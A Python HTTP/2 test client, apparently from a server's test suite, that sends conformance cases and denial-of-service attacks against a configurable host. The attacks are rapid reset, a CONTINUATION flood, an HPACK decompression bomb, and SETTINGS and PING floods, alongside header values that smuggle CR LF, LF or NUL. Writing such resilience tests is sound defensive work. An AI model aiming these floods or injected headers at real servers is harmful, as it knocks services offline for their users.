#!/usr/bin/env python3
"""HTTP/2 test client: one conformance or attack case over one TLS connection (ALPN h2 only).

  h2_client.py CASE --port P [--host 127.0.0.1] [--sni NAME] [--ca FILE | --insecure]
               [--path /x] [--count N] [--header NAME:VALUE]... [--timeout S] [--then-get]

Frames are built with hyperframe and header blocks with hpack (both part of the Python h2 project,
Debian python3-h2): the client does no validation of its own, so it can send exactly the malformed or
hostile shapes below. It prints one JSON object:
  {"case", "alpn", "tls", "sent" (streams or frames sent), "write_blocked" (the peer stopped reading),
   "write_error", "status" (stream id -> :status), "body" (first response body, at most 300 bytes),
   "rst" (error code name -> count), "rst_streams" (first 10 [stream, code]), "goaway" ({"error",
   "last_stream_id", "debug"} or null), "closed" (EOF or reset seen), "reset" (ECONNRESET seen),
   "frames" (type -> count received), "settings_acks", "ping_acks", "followup_status" (--then-get:
   the status of a normal GET on the same connection afterwards, null when none came), "elapsed_ms"}
Exit status 0 whenever the case ran (the caller judges the outcome), 3 when h2 was not agreed, 2 on
a usage error or a failed TLS handshake.

Cases (stream 1 carries the request unless said otherwise; --path defaults to /h2/CASE):
  get                  GET --path (plus --header fields): the control case
  te-trailers          GET with "te: trailers" (allowed: must be answered)
  no-path              HEADERS without :path
  uppercase            a field name with upper-case letters ("X-Upper-Case")
  authority-mismatch   :authority alpha.test and host: evil.test
  connection-header    "connection: keep-alive"
  transfer-encoding    "transfer-encoding: chunked" on a POST with a DATA frame
  te-gzip              "te: gzip"
  content-length       POST with content-length 10 and 5 bytes of DATA (END_STREAM)
  crlf | lf | nul      a header value holding CR LF / LF / NUL
  rapid-reset          --count streams (default 5000), each HEADERS then RST_STREAM(CANCEL) at once
  continuation-flood   HEADERS without END_HEADERS, then --count CONTINUATION frames (default 2000),
                       each with one new header field (100-byte value), never END_HEADERS
  hpack-bomb           one 4000-byte literal added to the dynamic table, then --count one-byte
                       references to it (default 65536: 256 MiB decoded) in HEADERS + CONTINUATION
  settings-flood       --count SETTINGS frames (default 1000000) without reading the ACKs
  ping-flood           --count PING frames (default 1000000) without reading the ACKs
For the floods the receive buffer is kept small (4 KiB) so that ACKs the server cannot send pile up on
its side; the client stops writing when a write has been blocked for 2 s (write_blocked).
"""
import argparse
import json
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
          "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
          "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
FLOODS = {"rapid-reset", "continuation-flood", "hpack-bomb", "settings-flood", "ping-flood"}
DEFAULT_COUNT = {"rapid-reset": 5000, "continuation-flood": 2000, "hpack-bomb": 65536,
                 "settings-flood": 1000000, "ping-flood": 1000000}


def err_name(code):
    return ERRORS[code] if code < len(ERRORS) else f"0x{code:x}"


def hint(n, prefix_bits, first):
    """HPACK integer with an N-bit prefix; `first` holds the pattern bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if n < limit:
        return bytes([first | n])
    out = bytearray([first | limit])
    n -= limit
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def literal(name, value, index=False):
    """A literal field with a new (literal) name: with incremental indexing or without indexing."""
    first = 0x40 if index else 0x00
    return bytes([first]) + hint(len(name), 7, 0) + name + hint(len(value), 7, 0) + value


class Client:
    def __init__(self, args, small_rcvbuf=False):
        self.a = args
        self.res = {"case": args.case, "alpn": None, "tls": None, "sent": 0, "write_blocked": False,
                    "write_error": None, "status": {}, "body": None, "rst": {}, "rst_streams": [],
                    "goaway": None, "closed": False, "reset": False, "frames": {}, "settings_acks": 0,
                    "ping_acks": 0, "followup_status": None}
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.dec.max_header_list_size = 1 << 30
        self.buf = bytearray()
        self.block = {}  # stream id -> header block being assembled (HEADERS + CONTINUATION)
        self.ended = set()  # streams the server ended (END_STREAM or RST_STREAM)
        self.bodies = {}
        raw = socket.socket(socket.AF_INET6 if ":" in args.host else socket.AF_INET, socket.SOCK_STREAM)
        if small_rcvbuf:  # before connect, so that the window advertised from the start is small
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.settimeout(args.timeout)
        raw.connect((args.host, args.port))
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        if args.insecure:
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
        else:
            ctx.load_verify_locations(args.ca)
        ctx.set_alpn_protocols(["h2"])
        self.s = ctx.wrap_socket(raw, server_hostname=args.sni)
        self.res["alpn"] = self.s.selected_alpn_protocol()
        self.res["tls"] = self.s.version()

    # -- writing
    def send(self, data):
        """Writes data; False once the connection is gone or a write stayed blocked for 2 s."""
        if self.res["closed"] or self.res["write_blocked"]:
            return False
        self.s.settimeout(2)
        try:
            self.s.sendall(data)
            return True
        except socket.timeout:
            self.res["write_blocked"] = True
        except (ssl.SSLError, OSError) as e:
            self.res["write_error"] = type(e).__name__
            self.res["closed"] = True
            self.res["reset"] = self.res["reset"] or isinstance(e, ConnectionResetError)
        return False

    def req_headers(self, extra=(), method=b"GET", path=None, drop=()):
        path = (path or self.a.path).encode()
        h = [(b":method", method), (b":scheme", b"https"), (b":path", path),
             (b":authority", self.a.sni.encode())]
        h = [f for f in h if f[0] not in drop] + [(b"user-agent", b"certgate-h2-test")]
        return h + [(n.encode() if isinstance(n, str) else n, v.encode() if isinstance(v, str) else v)
                    for n, v in extra]

    def headers_frame(self, sid, fields, end_stream=True):
        flags = ["END_HEADERS"] + (["END_STREAM"] if end_stream else [])
        return HeadersFrame(sid, data=self.enc.encode(fields), flags=flags).serialize()

    # -- reading
    def recv_some(self, timeout):
        self.s.settimeout(timeout)
        try:
            d = self.s.recv(65536)
        except socket.timeout:
            return None
        except ssl.SSLWantReadError:
            return None
        except (ssl.SSLError, OSError) as e:
            self.res["closed"] = True
            self.res["reset"] = self.res["reset"] or isinstance(e, ConnectionResetError)
            return b""
        if not d:
            self.res["closed"] = True
        return d

    def pump(self, until, idle=3.0, total=20.0):
        """Reads and handles frames until until() holds, the connection closes, nothing came for
        `idle` seconds or `total` seconds passed."""
        end = time.monotonic() + total
        while not until() and not self.res["closed"] and time.monotonic() < end:
            d = self.recv_some(idle)
            if d is None:
                return
            self.feed(d)

    def drain(self):
        """Handles whatever has arrived, without waiting."""
        while not self.res["closed"]:
            d = self.recv_some(0.0)
            if d is None:
                return
            self.feed(d)

    def feed(self, d):
        self.buf += d
        b, i = self.buf, 0
        while len(b) - i >= 9:
            n = int.from_bytes(b[i:i + 3], "big")
            if len(b) - i < 9 + n:
                break
            f, _ = Frame.parse_frame_header(memoryview(bytes(b[i:i + 9])))
            f.parse_body(memoryview(bytes(b[i + 9:i + 9 + n])))
            i += 9 + n
            self.handle(f)
        del b[:i]

    def handle(self, f):
        r = self.res
        name = type(f).__name__.replace("Frame", "").upper()
        r["frames"][name] = r["frames"].get(name, 0) + 1
        if isinstance(f, SettingsFrame):
            if "ACK" in f.flags:
                r["settings_acks"] += 1
            elif not r["write_blocked"]:
                self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(f, PingFrame) and "ACK" in f.flags:
            r["ping_acks"] += 1
        elif isinstance(f, GoAwayFrame):
            r["goaway"] = {"error": err_name(f.error_code), "last_stream_id": f.last_stream_id,
                           "debug": f.additional_data.decode("latin-1")[:200]}
        elif isinstance(f, RstStreamFrame):
            code = err_name(f.error_code)
            r["rst"][code] = r["rst"].get(code, 0) + 1
            if len(r["rst_streams"]) < 10:
                r["rst_streams"].append([f.stream_id, code])
            self.ended.add(f.stream_id)
        elif isinstance(f, (HeadersFrame, ContinuationFrame)):
            self.block[f.stream_id] = self.block.get(f.stream_id, b"") + f.data
            if "END_HEADERS" in f.flags:
                fields = self.dec.decode(self.block.pop(f.stream_id), raw=True)
                for k, v in fields:
                    if k == b":status":
                        r["status"][str(f.stream_id)] = int(v)
            if "END_STREAM" in f.flags:
                self.ended.add(f.stream_id)
        elif isinstance(f, DataFrame):
            self.bodies[f.stream_id] = self.bodies.get(f.stream_id, b"") + f.data
            if f.flow_controlled_length:
                self.send(WindowUpdateFrame(0, window_increment=f.flow_controlled_length).serialize())
            if "END_STREAM" in f.flags:
                self.ended.add(f.stream_id)

    def start(self):
        self.send(PREFACE + SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0}).serialize())

    def finish(self, last_sid, t0):
        r = self.res
        if self.a.then_get and not r["closed"] and r["goaway"] is None:
            sid = last_sid + 2
            if self.send(self.headers_frame(sid, self.req_headers(path="/h2/followup"))):
                self.pump(lambda: sid in self.ended, idle=3)
                st = r["status"].get(str(sid))
                r["followup_status"] = st
        if 1 in self.bodies:
            r["body"] = self.bodies[1][:300].decode("latin-1")
        r["elapsed_ms"] = int((time.monotonic() - t0) * 1000)
        return r


def one_request(c, case):
    """The single-request cases: stream 1."""
    h, data, method = [], None, b"GET"
    extra = list(c.a.header)
    drop = ()
    if case == "te-trailers":
        h = [("te", "trailers")]
    elif case == "no-path":
        drop = (b":path",)
    elif case == "uppercase":
        h = [("X-Upper-Case", "1")]
    elif case == "authority-mismatch":
        h = [("host", "evil.test")]
    elif case == "connection-header":
        h = [("connection", "keep-alive")]
    elif case == "transfer-encoding":
        h, data, method = [("transfer-encoding", "chunked")], b"5\r\nhello\r\n0\r\n\r\n", b"POST"
    elif case == "te-gzip":
        h = [("te", "gzip")]
    elif case == "content-length":
        h, data, method = [("content-length", "10")], b"hello", b"POST"
    elif case == "crlf":
        h = [("x-injected", "a\r\nx-smuggled: 1")]
    elif case == "lf":
        h = [("x-injected", "a\nx-smuggled: 1")]
    elif case == "nul":
        h = [("x-injected", "a\x00b")]
    fields = c.req_headers(extra + h, method=method, drop=drop)
    out = c.headers_frame(1, fields, end_stream=data is None)
    if data is not None:
        out += DataFrame(1, data=data, flags=["END_STREAM"]).serialize()
    c.send(out)
    c.res["sent"] = 1
    c.pump(lambda: 1 in c.ended or c.res["goaway"] is not None, idle=5)
    # A GOAWAY or close may follow an RST_STREAM: give it a moment.
    c.pump(lambda: False, idle=0.3, total=0.5)
    return 1


def rapid_reset(c, n):
    chunk, sid = bytearray(), 1
    fields = c.req_headers()
    for i in range(n):
        sid = 1 + 2 * i
        chunk += c.headers_frame(sid, fields) + RstStreamFrame(sid, error_code=8).serialize()
        c.res["sent"] = i + 1
        if len(chunk) >= 32768 or i == n - 1:
            if not c.send(bytes(chunk)):
                break
            chunk = bytearray()
            c.drain()  # keep the server's writes flowing
            if c.res["goaway"] is not None:
                break
    c.pump(lambda: c.res["goaway"] is not None and c.res["closed"], idle=3)
    return sid


def continuation_flood(c, n):
    fields = c.req_headers()
    out = HeadersFrame(1, data=c.enc.encode(fields), flags=["END_STREAM"]).serialize()
    if not c.send(out):
        return 1
    chunk = bytearray()
    for i in range(n):
        block = literal(f"x-flood-{i}".encode(), b"a" * 100)
        chunk += ContinuationFrame(1, data=block).serialize()
        c.res["sent"] = i + 1
        if len(chunk) >= 32768 or i == n - 1:
            if not c.send(bytes(chunk)):
                break
            chunk = bytearray()
    c.pump(lambda: c.res["closed"], idle=3)
    return 1


def hpack_bomb(c, n):
    head = b"".join(literal(k, v) for k, v in c.req_headers()) + literal(b"x-bomb", b"b" * 4000, index=True)
    refs = b"\xbe" * n  # indexed field 62: the newest dynamic table entry, the 4000-byte one
    block = head + refs
    frames, first = [], True
    while block:
        part, block = block[:16384], block[16384:]
        flags = (["END_STREAM"] if first else []) + ([] if block else ["END_HEADERS"])
        cls = HeadersFrame if first else ContinuationFrame
        frames.append(cls(1, data=part, flags=flags).serialize())
        first = False
    c.send(b"".join(frames))
    c.res["sent"] = len(frames)
    c.pump(lambda: 1 in c.ended or c.res["goaway"] is not None, idle=5)
    c.pump(lambda: False, idle=0.3, total=0.5)
    return 1


def control_flood(c, n, case):
    if case == "settings-flood":
        frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
    else:
        frame = PingFrame(0, opaque_data=b"certgate").serialize()
    per = 65536 // len(frame)
    while c.res["sent"] < n:
        k = min(per, n - c.res["sent"])
        if not c.send(frame * k):
            break
        c.res["sent"] += k
    # Now read everything the server has (the ACKs, maybe a GOAWAY) until it closes or goes quiet.
    c.pump(lambda: c.res["closed"], idle=3, total=30)
    return 0


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("case")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--sni", default="alpha.test")
    ap.add_argument("--ca")
    ap.add_argument("--insecure", action="store_true")
    ap.add_argument("--path")
    ap.add_argument("--count", type=int)
    ap.add_argument("--header", action="append", default=[], type=lambda s: tuple(s.split(":", 1)))
    ap.add_argument("--timeout", type=float, default=10)
    ap.add_argument("--then-get", action="store_true")
    a = ap.parse_args()
    singles = {"get", "te-trailers", "no-path", "uppercase", "authority-mismatch", "connection-header",
               "transfer-encoding", "te-gzip", "content-length", "crlf", "lf", "nul"}
    if a.case not in singles | FLOODS:
        ap.error(f"unknown case {a.case}")
    if not a.insecure and not a.ca:
        ap.error("--ca FILE or --insecure")
    a.path = a.path or f"/h2/{a.case}"
    n = a.count or DEFAULT_COUNT.get(a.case, 1)
    t0 = time.monotonic()
    try:
        c = Client(a, small_rcvbuf=a.case in ("settings-flood", "ping-flood"))
    except (OSError, ssl.SSLError) as e:
        print(json.dumps({"case": a.case, "error": f"connect/TLS: {e}"}))
        return 2
    if c.res["alpn"] != "h2":
        print(json.dumps(c.res))
        return 3
    c.start()
    c.pump(lambda: c.res["frames"].get("SETTINGS", 0) > 0, idle=5)
    runs = {"rapid-reset": rapid_reset, "continuation-flood": continuation_flood, "hpack-bomb": hpack_bomb}
    if a.case in singles:
        last = one_request(c, a.case)
    else:
        last = runs.get(a.case, lambda c, n: control_flood(c, n, a.case))(c, n)
    print(json.dumps(c.finish(last, t0), sort_keys=True))
    return 0


if __name__ == "__main__":
    sys.exit(main())
